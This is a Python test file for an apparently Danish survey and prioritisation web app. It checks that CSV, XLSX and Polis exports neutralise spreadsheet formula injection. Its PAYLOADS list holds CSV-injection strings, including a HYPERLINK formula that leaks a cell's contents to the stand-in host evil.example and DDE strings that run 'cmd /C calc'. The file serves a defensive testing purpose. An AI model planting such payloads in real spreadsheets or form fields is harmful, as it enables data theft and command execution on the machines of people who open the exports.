"""No export runs what someone typed: every text cell a spreadsheet would read as a formula is text.

The payloads are the ones an attacker would type into an answer, a unit name or a statement;
each export is read back the way Excel or LibreOffice would read it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from tempfile import TemporaryDirectory

from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from kerne.analysis.polis_io import PolisComment, read_comments, write_comments
from kerne.lib.spreadsheets import (
    FORMULA_STARTS,
    append_text_row,
    one_line_break,
    plain_text,
    text_cell,
    text_row,
)
from kerne.organisations.models import Unit
from kerne.priorities.tests.helpers import make_round, vote
from kerne.processes.services import close_round
from kerne.testing import BaseTestCase, add_respondents

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda c, s: c + s, st.sampled_from(FORMULA_STARTS), st.text()),
    st.text(),
)


@given(hostile)
def test_a_text_cell_never_starts_like_a_formula_and_reads_back(value: str) -> None:
    cell = text_cell(value)
    assert not dangerous(cell)
    assert plain_text(cell) == value
    # Only what would run is changed.
    assert (cell == value) == (not dangerous(value))


def test_numbers_and_empty_cells_stay_as_they_are() -> None:
    assert text_row([-1, 0, 2.5, None, ""]) == [-1, 0, 2.5, None, ""]


@given(st.lists(hostile, min_size=1, max_size=5))
def test_xlsx_rows_are_strings_never_formulas(values: list[str]) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_text_row(sheet, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    for cell, value in zip(read[1], values, strict=True):
        assert cell.data_type != "f"
        assert cell.value is None or not dangerous(str(cell.value))
        if value and value == value.strip() and value.isprintable():
            assert plain_text(str(cell.value)) == value


@given(st.lists(hostile, min_size=1, max_size=4))
@example(["\x00=1", "a\r=b"])
def test_the_polis_export_neutralises_statements_and_reads_them_back(
    texts: list[str],
) -> None:
    comments = [
        PolisComment(
            comment_id=i,
            text=text,
            moderated=1,
            author_id="0",
            timestamp=0,
            is_meta=False,
        )
        for i, text in enumerate(texts)
    ]
    with TemporaryDirectory() as folder:
        path = Path(folder) / "comments.csv"
        write_comments(path, comments)
        with path.open(newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))[1:]
        # A bare "\r" would end the row in the middle of the text; it becomes "\n".
        assert [row[7] for row in rows] == [text_cell(one_line_break(t)) for t in texts]
        assert not any(dangerous(cell) for row in rows for cell in row[7:])
        # NUL bytes are dropped on reading (PostgreSQL cannot store them).
        assert [c.text for c in read_comments(path)] == [
            one_line_break(t).replace("\x00", "") for t in texts
        ]


class ExportTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        for payload in PAYLOADS:
            add_respondents(cls.round, "medarbejder", 1, text=payload)
        close_round(cls.round)
        Unit.objects.filter(pk=cls.unit.pk).update(name=PAYLOADS[0])

    def setUp(self) -> None:
        self.client.force_login(self.bob)

    def test_svar_csv_has_no_formula(self) -> None:
        r = self.client.get(reverse("participation:answers_csv", args=[self.round.pk]))
        rows = list(
            csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";")
        )
        answers = [row[3] for row in rows[1:]]
        assert (
            len(answers)
            == len(PAYLOADS) * self.round.questions.filter(kind="text").count()
        )
        assert not any(dangerous(cell) for row in rows for cell in row)
        assert {plain_text(a).split(" (medarbejder")[0] for a in answers} == set(
            PAYLOADS
        )

    def test_the_overview_csv_and_xlsx_have_no_formula(self) -> None:
        slug = self.organisation.slug
        r = self.client.get(reverse("coretasks:overview_csv", args=[slug]))
        rows = list(
            csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";")
        )
        assert rows[1][0] == "'" + PAYLOADS[0]
        assert not any(dangerous(cell) for row in rows for cell in row)
        r = self.client.get(reverse("coretasks:overview_xlsx", args=[slug]))
        sheet = load_workbook(io.BytesIO(r.content)).active
        assert sheet is not None
        assert sheet["A2"].value == "'" + PAYLOADS[0]
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate


class PairwiseExportTests(BaseTestCase):
    def test_the_pairwise_csv_has_no_formula(self) -> None:
        titles = (PAYLOADS[0], PAYLOADS[1], "Tøjvask")
        pairwise = make_round(self.process, self.alice, titles=titles)
        k = self.process.anonymity_threshold
        vote(
            pairwise,
            "medarbejder",
            k,
            [(PAYLOADS[0], PAYLOADS[1]), (PAYLOADS[1], "Tøjvask")],
        )
        self.client.force_login(self.alice)
        r = self.client.get(reverse("priorities:pairwise_csv", args=[pairwise.pk]))
        rows = list(
            csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";")
        )
        assert {row[0] for row in rows[1:]} >= {"'" + PAYLOADS[0], "'" + PAYLOADS[1]}
        assert not any(dangerous(cell) for row in rows for cell in row)
